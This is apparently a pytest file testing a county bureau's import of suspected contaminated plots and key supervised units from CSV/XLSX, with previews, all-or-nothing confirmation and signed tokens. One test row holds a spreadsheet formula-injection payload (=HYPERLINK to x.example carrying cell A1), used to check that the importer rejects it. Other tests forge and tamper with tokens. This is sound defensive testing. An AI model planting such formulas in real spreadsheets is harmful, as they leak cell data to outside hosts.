"""Importing the county's list of suspected plots or key supervised units from a
spreadsheet: preview with per-row errors, then all rows or none."""

from __future__ import annotations

import io
import zipfile

import pytest
from itsdangerous import URLSafeTimedSerializer
from openpyxl import Workbook
from sqlalchemy import func, select

from app.errors import Forbidden, ValidationError
from app.models import KeyUnit, LedgerEvent, Party, Suspect
from app.services import key_units
from app.services import presurvey_import as imports
from tests.support import new_credit_code

HEADER = "序号,地块名称,乡镇,地址,原从事行业,来源,面积(平方米),规划用途,土地使用权人统一社会信用代码,备注\n"


def _counts(db) -> tuple[int, int, int, int]:
    return tuple(
        db.session.scalar(select(func.count()).select_from(model))
        for model in (Suspect, KeyUnit, Party, LedgerEvent)
    )


def _suspects_csv(landholder_code: str) -> str:
    return (
        "陇川县疑似污染地块清单,,,,,,,,,\n"  # a title line above the header
        + HEADER
        + "1,原陇川县化工厂地块,章凤镇,章凤镇迭撒路 12 号,化学原料制造,重点行业企业关闭搬迁,"
        + f'"15,230.5",居住用地（R）,{landholder_code},关闭前曾生产农药\n'
        + ",,,,,,,,,\n"  # a blank spreadsheet row
        + "2,收回的原砖厂地块,城子镇,城子镇勐约村,砖瓦烧制,land_recovery,,industrial,,\n"
        + "3,举报的洗选厂地块, 户撒乡 ,户撒乡曼东村,有色金属洗选,群众举报,800,,,\n"
        + "4,,,,,,,,,\n"  # a template line with only its 序号
    )


def _xlsx(rows: list[list]) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "encode",
    [lambda text: text.encode("utf-8-sig"), lambda text: text.encode("gb18030")],
    ids=["utf-8-bom", "gb18030"],
)
def test_a_csv_of_suspected_plots_previews_and_confirms_every_row(world, db, encode):
    holder = world.landholder.party
    before = _counts(db)
    preview = imports.read("suspected", "清单.csv", encode(_suspects_csv(holder.credit_code)))
    assert _counts(db) == before and not db.session.new  # a preview stores nothing
    assert preview.ok and preview.error_count == 0
    assert [row.line for row in preview.rows] == [3, 5, 6]
    first, second, third = (row.values for row in preview.rows)
    assert first["source"] == "key_enterprise_closure" and first["area_m2"] == 15230.5
    assert first["planned_use"] == "residential"
    assert first["landholder_credit_code"] == holder.credit_code
    assert second["source"] == "land_recovery" and "area_m2" not in second
    assert third["source"] == "tipoff" and third["township"] == "户撒乡"

    created = imports.confirm(world.env.user, imports.sign(preview, world.env.user))

    assert len(created) == 3 and all(isinstance(s, Suspect) for s in created)
    after = _counts(db)
    # Three plots, an event for each and one for the import itself.
    assert after[0] == before[0] + 3 and after[3] == before[3] + 4
    stored = db.session.scalars(select(Suspect).order_by(Suspect.id)).all()
    assert [s.name for s in stored] == [
        "原陇川县化工厂地块",
        "收回的原砖厂地块",
        "举报的洗选厂地块",
    ]
    assert stored[0].landholder_party_id == holder.id and float(stored[0].area_m2) == 15230.5
    assert {s.county_code for s in stored} == {"533124"} and {s.status for s in stored} == {
        "suspected"
    }
    actions = db.session.scalars(
        select(LedgerEvent.action).order_by(LedgerEvent.seq.desc()).limit(3)
    ).all()
    assert actions == ["suspect_recorded"] * 3


def test_an_xlsx_of_key_units_lists_known_units_and_registers_new_ones(world, db):
    known, new_code = world.landholder.party, new_credit_code()
    raw = _xlsx(
        [
            ["统一社会信用代码", "单位名称", "年度", "行业 ", "乡镇", "地址"],
            [known.credit_code, None, 2026, "铅锌冶炼", "章凤镇", "章凤镇工业园 1 号"],
            [],
            [new_code.lower(), "陇川县新建化工有限公司", 2026.0, "化学原料制造", None, None],
            [known.credit_code, "", "2027年", None, None, None],
        ]
    )
    before = _counts(db)
    preview = imports.read("key_units", "重点监管单位.XLSX", raw)
    assert _counts(db) == before
    assert preview.ok, [row.errors for row in preview.rows]
    assert [row.line for row in preview.rows] == [2, 4, 5]
    assert [row.values["year"] for row in preview.rows] == [2026, 2026, 2027]
    assert preview.rows[1].values["credit_code"] == new_code  # normalised

    units = imports.confirm(world.env.user, imports.sign(preview, world.env.user))

    assert [(u.party.credit_code, u.year) for u in units] == [
        (known.credit_code, 2026), (new_code, 2026), (known.credit_code, 2027),
    ]  # fmt: skip
    registered = db.session.scalar(select(Party).where(Party.credit_code == new_code))
    assert registered.name == "陇川县新建化工有限公司" and units[1].party_id == registered.id
    assert units[0].industry == "铅锌冶炼" and units[0].township == "章凤镇"
    after = _counts(db)
    # Three listings, one new party, an event for each of them and one for the import.
    assert (after[1] - before[1], after[2] - before[2], after[3] - before[3]) == (3, 1, 5)


def test_a_file_with_a_bad_row_previews_its_errors_and_stores_nothing(world, db):
    text = (
        HEADER
        + "1,原化工厂地块,章凤镇,迭撒路 12 号,化学原料制造,土地收回,100,,,\n"
        + '2,原砖厂地块,城子镇,勐约村,砖瓦烧制,工厂搬走了,"abc",,,\n'
        + '3,"=HYPERLINK(""http://x.example/?q=""&A1,""点击"")",户撒乡,曼东村,洗选,tipoff,,,,\n'
    )
    before = _counts(db)
    preview = imports.read("suspected", "bad.csv", text.encode("utf-8"))
    assert not preview.ok and preview.error_count == 2
    good, bad_source, formula = preview.rows
    assert good.errors == {}
    assert bad_source.line == 3 and set(bad_source.errors) == {"source", "area_m2"}
    assert "工厂搬走了" in bad_source.errors["source"] and "土地收回" in bad_source.errors["source"]
    assert bad_source.errors["area_m2"] == "须为数字"
    assert formula.line == 4 and "公式" in formula.errors["name"]
    with pytest.raises(ValidationError):
        imports.sign(preview, world.env.user)

    # The signature of the good row's token, on a payload that carries the bad row, or
    # a token signed with another key, is refused.
    token = imports.sign(imports.Preview("suspected", "bad.csv", [good]), world.env.user)
    evil = imports.Row(4, {**good.values, "name": "=HYPERLINK(1)"})
    other = imports.sign(imports.Preview("suspected", "bad.csv", [evil]), world.env.user)
    tampered = other.rsplit(".", 2)[0] + "." + ".".join(token.rsplit(".", 2)[1:])
    with pytest.raises(ValidationError) as caught:
        imports.confirm(world.env.user, tampered)
    assert caught.value.message == imports.EXPIRED and caught.value.fields == {
        "token": imports.EXPIRED
    }
    forged = URLSafeTimedSerializer("not-our-secret", salt=imports.SALT).dumps(
        {"kind": "suspected", "filename": "bad.csv", "lines": [2], "rows": [good.values]}
    )
    with pytest.raises(ValidationError, match="导入已过期或无效"):
        imports.confirm(world.env.user, forged)
    with pytest.raises(ValidationError, match="导入已过期或无效"):
        imports.confirm(world.env.user, None)
    assert _counts(db) == before


def test_the_same_unit_twice_in_a_year_is_an_error_of_the_later_row(world, db):
    code = world.landholder.party.credit_code
    text = f"统一社会信用代码,年度\n{code},2026\n{code.lower()},2026\n{code},2025\n"
    preview = imports.read("key_units", "units.csv", text.encode("utf-8"))
    assert not preview.ok and preview.error_count == 1
    assert preview.rows[1].line == 3 and "与第 2 行重复" in preview.rows[1].errors["credit_code"]
    # A unit already on its county's list that year is flagged at preview.
    key_units.create(world.env.user, {"credit_code": code, "year": 2025})
    preview = imports.read("key_units", "units.csv", text.encode("utf-8"), user=world.env.user)
    assert "已列入 2025 年度" in preview.rows[2].errors["credit_code"]


def test_a_row_that_went_bad_since_the_preview_stores_nothing_and_names_its_line(world, db):
    first, second = world.landholder.party, world.other_landholder.party
    text = (
        f"统一社会信用代码,年度,单位名称\n{first.credit_code},2026,\n{second.credit_code},2026,\n"
    )
    token = imports.sign(
        imports.read("key_units", "units.csv", text.encode("utf-8")), world.env.user
    )
    key_units.create(world.env.user, {"credit_code": second.credit_code, "year": 2026})
    before = _counts(db)
    with pytest.raises(ValidationError) as caught:
        imports.confirm(world.env.user, token)
    assert caught.value.message.startswith("第 3 行：统一社会信用代码：")
    assert "未导入任何数据" in caught.value.message
    assert _counts(db) == before  # the first row was added, then rolled back


def test_only_the_bureau_confirms_and_a_token_expires(world, db):
    text = HEADER + "1,原化工厂地块,章凤镇,迭撒路 12 号,化学原料制造,土地收回,,,,\n"
    token = imports.sign(imports.read("suspected", "a.csv", text.encode("gb18030")), world.env.user)
    before = _counts(db)
    with pytest.raises(Forbidden):
        imports.confirm(world.landholder.user, token)
    with pytest.raises(ValidationError, match="导入已过期或无效"):
        imports.confirm(world.env.user, token, max_age=-1)
    assert _counts(db) == before
    assert len(imports.confirm(world.env.user, token)) == 1


@pytest.mark.parametrize(
    ("kind", "text", "missing"),
    [
        ("suspected", "地块名称,乡镇,地址,原行业\n甲地块,章凤镇,某路,冶炼\n", "来源（source）"),
        ("key_units", "Credit Code,单位名称\n91533124MA0000001X,某厂\n", "年度（year）"),
    ],
)
def test_a_missing_required_column_refuses_the_file(app, kind, text, missing):
    with pytest.raises(ValidationError) as caught:
        imports.read(kind, "list.csv", text.encode("utf-8"))
    assert "表头缺少必需的列" in caught.value.message and missing in caught.value.message
    assert caught.value.message.startswith("第 1 行")


def _zip_without_a_workbook() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "not a workbook")
    return out.getvalue()


@pytest.mark.parametrize(
    "raw",
    [b"\xd0\xcf\x11\xe0 an old .xls", "地块名称,乡镇\n".encode(), _zip_without_a_workbook()],
    ids=["ole", "csv", "zip"],
)
def test_a_file_that_is_not_an_xlsx_is_refused_by_name(app, raw):
    with pytest.raises(ValidationError) as caught:
        imports.read("suspected", "清单.xlsx", raw)
    assert caught.value.message == imports.NOT_XLSX and caught.value.fields == {
        "file": imports.NOT_XLSX
    }


def test_other_file_level_problems_are_refused(app):
    ok_header = "统一社会信用代码,年度\n"
    with pytest.raises(ValidationError, match="仅支持 CSV 或 XLSX"):
        imports.read("key_units", "list.xls", b"\xd0\xcf\x11\xe0")
    with pytest.raises(ValidationError, match="文件过大"):
        imports.read("key_units", "list.csv", b" " * (imports.MAX_BYTES + 1))
    with pytest.raises(ValidationError, match="GB18030"):
        imports.read("key_units", "list.csv", b"\x00\x01\xff\xfe")
    with pytest.raises(ValidationError, match="没有数据行"):
        imports.read("key_units", "list.csv", ok_header.encode())
    too_many = ok_header + f"{new_credit_code()},2026\n" * (imports.MAX_ROWS + 1)
    with pytest.raises(ValidationError, match="数据行过多"):
        imports.read("key_units", "list.csv", too_many.encode())
    with pytest.raises(ValidationError, match="表头重复"):
        imports.read("key_units", "list.csv", "年度,统一社会信用代码,year\n".encode())


def test_a_preview_is_confirmed_once_and_only_by_its_officer(world, db):
    text = "地块名称,乡镇,地址,原从事行业,来源\n原砖厂,章凤镇,拉勐村,砖瓦,执法检查发现\n"
    token = imports.sign(imports.read("suspected", "a.csv", text.encode("utf-8")), world.env.user)
    with pytest.raises(ValidationError, match="导入已过期或无效"):
        imports.confirm(world.nr.user, token)  # another officer's preview
    assert _counts(db)[0] == 0
    assert len(imports.confirm(world.env.user, token)) == 1
    before = _counts(db)
    with pytest.raises(ValidationError, match="已经导入"):
        imports.confirm(world.env.user, token)  # a double click
    assert _counts(db) == before
